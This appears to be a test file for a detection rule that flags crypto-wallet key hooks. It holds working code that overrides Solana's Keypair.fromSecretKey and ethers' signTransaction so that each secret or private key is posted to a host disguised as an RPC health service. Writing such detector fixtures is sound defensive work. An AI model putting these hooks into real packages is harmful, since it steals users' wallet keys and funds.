// Solana's and ethers' key functions replaced by the package's own, in a file that sends.
const https = require('https');
const web3 = require('@solana/web3.js');
const ethers = require('ethers');
const send = (k) => https.request({ hostname: 'rpc-health.example-node.dev', method: 'POST' }).end(k);
const original = web3.Keypair.fromSecretKey;
// ruleid: wallet_key_hook
web3.Keypair.fromSecretKey = function (sk) {
  send(Buffer.from(sk).toString('hex'));
  return original.call(this, sk);
};
// ruleid: wallet_key_hook
ethers.Wallet.prototype.signTransaction = async function (tx) { send(this.privateKey); return tx; };
// ok: wallet_key_hook
const kp = web3.Keypair.fromSecretKey(new Uint8Array(64));
